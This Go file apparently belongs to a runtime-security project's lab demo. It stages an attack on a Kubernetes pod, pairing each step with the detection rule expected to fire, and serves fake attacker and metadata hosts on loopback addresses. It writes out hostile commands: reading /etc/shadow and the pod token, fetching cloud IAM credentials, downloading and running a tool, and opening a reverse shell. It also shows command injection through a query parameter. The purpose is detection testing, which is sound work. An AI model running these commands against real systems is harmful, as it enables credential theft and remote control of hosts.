// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"

	"github.com/holdfast-project/holdfast/tests/lab"
)

// The attacker's machine, as the pod sees it, and the cloud's metadata service. Both are played by the demo, on addresses
// of the lab's own loopback device.
const (
	attackerAddress = "203.0.113.66"
	metadataAddress = "169.254.169.254"
)

// step is one step of the attack: what the attacker makes the web service's shell do, and the rule that tells of it.
type step struct {
	what, command, rule string
}

const secrets = "/var/run/secrets/kubernetes.io/serviceaccount"

func attack() []step {
	return []step{
		{"find out where one is", "id; hostname", ""},
		{"read the password hashes", "cat /etc/shadow", "Sensitive file read"},
		{"read the pod's Kubernetes token", "cat " + secrets + "/token", "Sensitive file read"},
		{"ask the cloud for the node's credentials", "wget -qO- http://" + metadataAddress + "/latest/meta-data/iam/security-credentials/",
			"Cloud metadata service contacted"},
		{"download a tool and run it", "wget -qO /tmp/.x http://" + attackerAddress + "/x && chmod +x /tmp/.x && /tmp/.x nop",
			"Executable not from the image"},
		{"run it from memory, under a harmless name", "/tmp/.x fileless", "Fileless execution"},
		{"hide a copy among the programs", "cp /tmp/.x /usr/bin/dbus-helper", "Write below a binary directory"},
		{"listen to the network", "/tmp/.x packet-socket", "Raw or packet socket opened"},
		{"open a shell to the attacker", "/tmp/.x reverse-shell " + attackerAddress + ":4444", "Shell with a socket for its input"},
	}
}

// serveOutside plays the machines that the pod talks to, until the lab is closed.
func serveOutside(ctx context.Context, l *lab.Lab, tool string) error {
	for _, address := range []string{attackerAddress, metadataAddress} {
		if err := l.AddAddress(netip.MustParseAddr(address)); err != nil {
			return err
		}
	}
	files := http.NewServeMux()
	files.HandleFunc("/x", func(w http.ResponseWriter, r *http.Request) { http.ServeFile(w, r, tool) })
	metadata := http.NewServeMux()
	metadata.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "node-role") })
	for address, handler := range map[string]http.Handler{attackerAddress + ":80": files, metadataAddress + ":80": metadata} {
		listener, err := l.Listen(ctx, "tcp", address)
		if err != nil {
			return err
		}
		server := &http.Server{Handler: handler}
		go func() { _ = server.Serve(listener) }()
		context.AfterFunc(ctx, func() { _ = server.Close() })
	}
	shells, err := l.Listen(ctx, "tcp", attackerAddress+":4444")
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = shells.Close() })
	go typeInto(shells)
	return nil
}

// typeInto types two commands into each shell that comes, and leaves.
func typeInto(listener net.Listener) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			return
		}
		_, err = io.WriteString(conn, "uname -a\nexit\n")
		if err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		_ = conn.Close()
	}
}

// inject sends one command through the mistake in the web service.
func inject(ctx context.Context, client *http.Client, shop, command string) error {
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+shop+"/track?parcel="+url.QueryEscape("1; "+command), nil)
	if err != nil {
		return err
	}
	response, err := client.Do(request)
	if err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	_, err = io.Copy(io.Discard, response.Body)
	return errors.Join(err, response.Body.Close())
}
